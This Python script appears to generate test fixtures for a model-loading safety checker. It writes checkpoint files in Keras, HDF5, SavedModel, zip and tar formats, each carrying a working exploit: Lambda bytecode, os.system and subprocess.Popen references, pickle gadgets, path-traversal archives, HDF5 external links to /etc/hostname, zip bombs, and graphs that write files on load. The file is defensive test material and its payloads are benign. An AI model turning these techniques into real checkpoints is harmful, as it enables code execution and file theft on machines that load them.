"""Harmless proofs of concept: checkpoints that would write a marker file, or fill a disk, if a loader took them at their word.

`python fixtures_hostile.py OUT` writes each into a folder of its own, in which a file `marker` must never appear. Written with
tf_keras and Keras 3 and then edited, as an attacker would.
"""

from __future__ import annotations

import io
import json
import os
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

ATTACKS: dict[str, Callable[[Path], str]] = {}
# What happens when the library's own loader gets the file unasked: the attack is real here, and the refusal means something.
FIRES: set[str] = set()


def attack(*, fires: bool = False) -> Callable[[Callable[[Path], str]], Callable[[Path], str]]:
    def register(function: Callable[[Path], str]) -> Callable[[Path], str]:
        ATTACKS[function.__name__] = function
        if fires:
            FIRES.add(function.__name__)
        return function

    return register


def _touching(folder: Path) -> Any:
    """A lambda that needs nothing but builtins, as bytecode in a checkpoint does."""
    return eval(f"lambda x: (open({str(folder / 'marker')!r}, 'w').close(), x)[1]")  # our own text


def _small(k: Any) -> Any:
    return k.Sequential([k.Input((3,), name="x"), k.layers.Dense(2, activation="relu", name="d")])


def _edit_keras(path: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(members["config.json"])
    edit(config)
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)


def _keras(folder: Path, edit: Callable[[dict[str, Any]], None], library: str = "keras") -> str:
    k = __import__(library)
    path = folder / "model.keras"
    _small(k).save(path)
    _edit_keras(path, edit)
    return path.name


def _dense(config: dict[str, Any]) -> dict[str, Any]:
    layer: dict[str, Any] = next(layer for layer in config["config"]["layers"] if layer["class_name"] == "Dense")
    return layer


def _os_system() -> dict[str, Any]:
    return {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}


def _popen(folder: Path) -> dict[str, Any]:
    inner = {"args": ["touch", str(folder / "marker")]}
    return {"module": "subprocess", "class_name": "Popen", "config": inner, "registered_name": None}


def _with_lambda(library: str, folder: Path, name: str, **arguments: Any) -> str:
    k = __import__(library)
    layer = k.layers.Lambda(_touching(folder), name="evil", **arguments)
    k.Sequential([k.Input((3,), name="x"), layer, k.layers.Dense(2)]).save(folder / name)
    return name


@attack()
def lambda_bytecode_keras_3(folder: Path) -> str:
    return _with_lambda("keras", folder, "model.keras", output_shape=(3,))


@attack()
def lambda_bytecode_tf_keras(folder: Path) -> str:
    return _with_lambda("tf_keras", folder, "model.keras")


@attack(fires=True)
def lambda_bytecode_legacy_h5(folder: Path) -> str:
    return _with_lambda("tf_keras", folder, "model.h5")


@attack()
def lambda_bytecode_as_output_shape(folder: Path) -> str:
    """The function itself is harmless; the bytecode is where nobody looks."""
    import tf_keras as k

    layer = k.layers.Lambda(k.activations.relu, output_shape=_touching(folder), name="evil")
    x = k.Input((3,), name="x")
    k.Model(x, k.layers.Dense(2)(layer(x))).save(folder / "model.h5")
    return "model.h5"


@attack()
def lambda_in_compile_config(folder: Path) -> str:
    bytecode = {"class_name": "__lambda__", "config": {"code": "4wAAAA==", "defaults": None, "closure": None}}
    return _keras(folder, lambda config: config.update(compile_config={"loss": bytecode}))


@attack()
def function_of_os_keras_3(folder: Path) -> str:
    return _keras(folder, lambda config: _dense(config)["config"].update(activation=_os_system()))


@attack()
def lambda_layer_over_a_library_function(folder: Path) -> str:
    """CVE-2025-1550: no bytecode, only the name of a function and its arguments."""

    inner = {
        "name": "evil",
        "trainable": True,
        "dtype": "float32",
        "function": {"module": "tempfile", "class_name": "function", "config": "mkdtemp", "registered_name": "mkdtemp"},
        "function_type": "function",
        "module": None,
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {"prefix": "marker", "dir": str(folder)},
    }
    node = {"module": "keras.layers", "class_name": "Lambda", "config": inner, "registered_name": None}

    def edit(config: dict[str, Any]) -> None:
        config["config"]["layers"].insert(1, node)

    return _keras(folder, edit, "tf_keras")


@attack()
def class_of_subprocess_in_build_config(folder: Path) -> str:
    return _keras(folder, lambda config: _dense(config).update(build_config={"input_shape": _popen(folder)}))


@attack()
def class_of_subprocess_in_compile_config(folder: Path) -> str:
    return _keras(folder, lambda config: config.update(compile_config={"optimizer": _popen(folder)}))


@attack()
def class_of_subprocess_deep_inside(folder: Path) -> str:
    deep: Any = _popen(folder)
    for _ in range(60):
        deep = {"regularizers": [deep]}
    return _keras(folder, lambda config: _dense(config)["config"].update(kernel_regularizer=deep))


@attack()
def keras_function_that_downloads(folder: Path) -> str:
    """CVE-2025-8747: everything it names is Keras's own."""
    download = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    return _keras(folder, lambda config: _dense(config)["config"].update(activation=download))


@attack()
def dotted_name_through_a_keras_module(folder: Path) -> str:
    load = {"module": "keras.src.losses", "class_name": "function", "config": "tf.load_op_library", "registered_name": None}
    return _keras(folder, lambda config: _dense(config)["config"].update(activation=load), "tf_keras")


@attack()
def tensorflow_symbol_that_writes(folder: Path) -> str:
    import tensorflow as tf
    import tf_keras as k

    x = k.Input((), dtype="string", name="x")
    k.Model(x, tf.strings.lower(x)).save(folder / "model.h5")
    _edit_h5(folder / "model.h5", lambda text: text.replace("strings.lower", "io.write_file"))
    return "model.h5"


def _edit_h5(path: Path, edit: Callable[[str], str]) -> None:
    import h5py

    with h5py.File(path, "r+") as file:
        file.attrs["model_config"] = edit(file.attrs["model_config"]).encode()


@attack()
def vocabulary_read_from_a_path(folder: Path) -> str:
    """CVE-2025-12058."""
    import tf_keras as k

    layer = k.layers.StringLookup(vocabulary=["a", "b"])
    k.Sequential([k.Input((1,), dtype="string", name="x"), layer]).save(folder / "model.keras")

    def edit(config: dict[str, Any]) -> None:
        lookup = next(node for node in config["config"]["layers"] if node["class_name"] == "StringLookup")
        lookup["config"]["vocabulary"] = "/etc/hostname"

    _edit_keras(folder / "model.keras", edit)
    return "model.keras"


@attack()
def layer_that_loads_another_model(folder: Path) -> str:
    def edit(config: dict[str, Any]) -> None:
        inner = {"filepath": str(folder / "elsewhere"), "name": "evil"}
        config["config"]["layers"].append({"module": "keras.layers", "class_name": "TFSMLayer", "config": inner})

    return _keras(folder, edit)


class _Touch:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self.marker, "w"))


@attack()
def pickled_arrays(folder: Path) -> str:
    name = _keras(folder, lambda config: None)
    arrays = io.BytesIO()
    np.savez(arrays, w=np.array([_Touch(str(folder / "marker"))], dtype=object))
    with zipfile.ZipFile(folder / name, "a") as archive:
        archive.writestr("model.weights.npz", arrays.getvalue())
    return name


# --- archives and files that reach outside themselves, or are larger than they can be


def _zip_with(folder: Path, name: str, content: bytes = b"x", mode: int = 0) -> str:
    path = folder / "model.zip"
    with zipfile.ZipFile(path, "w") as archive:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = mode << 16
        archive.writestr(entry, content)
    return path.name


@attack()
def zip_member_above_its_folder(folder: Path) -> str:
    return _zip_with(folder, "../../../../../../../../../../" + str(folder / "marker").lstrip("/"))


@attack()
def zip_member_with_an_absolute_name(folder: Path) -> str:
    return _zip_with(folder, str(folder / "marker"))


@attack()
def zip_member_that_is_a_link(folder: Path) -> str:
    return _zip_with(folder, "model.h5", b"/etc/hostname", 0o120777)


@attack()
def keras_archive_with_a_member_above(folder: Path) -> str:
    name = _keras(folder, lambda config: None)
    with zipfile.ZipFile(folder / name, "a") as archive:
        archive.writestr("assets/../../marker", b"x")
    return name


@attack()
def tar_that_writes_through_a_link(folder: Path) -> str:
    path = folder / "model.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        link = tarfile.TarInfo("there")
        link.type, link.linkname = tarfile.SYMTYPE, str(folder)
        archive.addfile(link)
        marker = tarfile.TarInfo("there/marker")
        archive.addfile(marker, io.BytesIO(b""))
    return path.name


@attack()
def tar_that_claims_terabytes(folder: Path) -> str:
    path = folder / "model.tar"
    entry = tarfile.TarInfo("model.h5")
    entry.size = 2**42
    path.write_bytes(entry.tobuf() + b"\0" * 1024)
    return path.name


@attack()
def zip_bomb(folder: Path) -> str:
    path = folder / "model.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("model.h5", "w") as member:
        for _ in range(300):
            member.write(bytes(2**20))
    return path.name


@attack()
def keras_archive_bomb(folder: Path) -> str:
    name = _keras(folder, lambda config: None)
    with zipfile.ZipFile(folder / name, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("assets/zeros", "w") as member:
        for _ in range(300):
            member.write(bytes(2**20))
    return name


def _h5(folder: Path, add: Callable[[Any], None]) -> str:
    import h5py
    import tf_keras as k

    path = folder / "model.h5"
    _small(k).save(path)
    with h5py.File(path, "r+") as file:
        add(file["model_weights"])
    return path.name


@attack()
def h5_link_to_another_file(folder: Path) -> str:
    import h5py

    def add(group: Any) -> None:
        group["stolen"] = h5py.ExternalLink("/etc/hostname", "/secret")

    return _h5(folder, add)


@attack()
def h5_data_in_another_file(folder: Path) -> str:
    return _h5(folder, lambda group: group.create_dataset("stolen", (4,), "u1", external=[("/etc/hostname", 0, 4)]))


@attack()
def h5_virtual_data(folder: Path) -> str:
    import h5py

    def add(group: Any) -> None:
        layout = h5py.VirtualLayout((4,), "u1")
        layout[:] = h5py.VirtualSource("/etc/hostname", "secret", (4,))
        group.create_virtual_dataset("stolen", layout)

    return _h5(folder, add)


@attack()
def h5_array_of_terabytes(folder: Path) -> str:
    return _h5(folder, lambda group: group.create_dataset("huge", (2**40,), "f4", chunks=(2**20,)))


@attack()
def keras_weights_linked_to_another_file(folder: Path) -> str:
    import h5py

    name = _keras(folder, lambda config: None)
    with zipfile.ZipFile(folder / name) as archive:
        members = {member: archive.read(member) for member in archive.namelist()}
    weights = io.BytesIO(members["model.weights.h5"])
    with h5py.File(weights, "r+") as file:
        file["layers/dense/vars/9"] = h5py.ExternalLink("/etc/hostname", "/secret")
    members["model.weights.h5"] = weights.getvalue()
    with zipfile.ZipFile(folder / name, "w") as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return name


# --- SavedModel graphs


def _saved_model(folder: Path, body: Callable[[Any, Any], Any]) -> str:
    import tensorflow as tf

    module = tf.Module()

    @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32, name="x")])
    def serve(x: Any) -> Any:
        with tf.control_dependencies([body(tf, x)]):
            return {"y": x * 2.0}

    tf.saved_model.save(module, str(folder / "sm"), signatures=serve)
    return "sm"


@attack()
def graph_that_writes_a_file(folder: Path) -> str:
    return _saved_model(folder, lambda tf, x: tf.io.write_file(str(folder / "marker"), "x"))


@attack()
def graph_that_reads_a_file(folder: Path) -> str:
    return _saved_model(folder, lambda tf, x: tf.identity(tf.io.read_file("/etc/hostname")))


@attack()
def graph_that_saves_outside_the_saver(folder: Path) -> str:
    def save(tf: Any, x: Any) -> Any:
        return tf.raw_ops.SaveV2(prefix=str(folder / "marker"), tensor_names=["x"], shape_and_slices=[""], tensors=[x])

    return _saved_model(folder, save)


@attack()
def graph_that_calls_python(folder: Path) -> str:
    return _saved_model(folder, lambda tf, x: tf.py_function(lambda v: v, [x], tf.float32))


@attack()
def graph_that_prints_into_a_file(folder: Path) -> str:
    return _saved_model(folder, lambda tf, x: tf.print("x", output_stream=f"file://{folder / 'marker'}"))


@attack()
def graph_that_hides_it_in_a_branch(folder: Path) -> str:
    def body(tf: Any, x: Any) -> Any:
        def write() -> Any:
            with tf.control_dependencies([tf.io.write_file(str(folder / "marker"), "x")]):
                return tf.constant(1)

        return tf.cond(tf.reduce_sum(x) > 1e9, write, lambda: tf.constant(0))

    return _saved_model(folder, body)


@attack(fires=True)
def graph_that_writes_while_it_is_loaded(folder: Path) -> str:
    """A table whose initializer does more than fill it: no signature has to be called."""
    import tensorflow as tf
    from tensorflow.python.trackable.resource import TrackableResource

    class Evil(TrackableResource):
        def _create_resource(self) -> Any:
            return tf.raw_ops.MutableHashTableV2(key_dtype=tf.int64, value_dtype=tf.int64)

        def _initialize(self) -> None:
            tf.io.write_file(str(folder / "marker"), "x")

    module = tf.Module()
    module.evil = Evil()

    @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32, name="x")])
    def serve(x: Any) -> Any:
        return {"y": x * 2.0}

    tf.saved_model.save(module, str(folder / "sm"), signatures=serve)
    return "sm"


@attack()
def saved_model_with_linked_variables(folder: Path) -> str:
    name = _saved_model(folder, lambda tf, x: tf.identity(x))
    (folder / name / "assets").mkdir(exist_ok=True)
    (folder / name / "assets" / "vocabulary.txt").symlink_to("/etc/hostname")
    return name


def main(out: str) -> None:
    os.environ.update(TF_CPP_MIN_LOG_LEVEL="3", CUDA_VISIBLE_DEVICES="-1")
    for name, write in ATTACKS.items():
        folder = Path(out) / name
        folder.mkdir(parents=True)
        case = {"checkpoint": write(folder)}
        (folder / "marker").unlink(missing_ok=True)  # Keras calls a Lambda once when it is built
        (folder / "case.json").write_text(json.dumps(case))
        np.savez(folder / "rows.npz", x=np.ones((2, 3), np.float32))


if __name__ == "__main__":
    main(*sys.argv[1:])
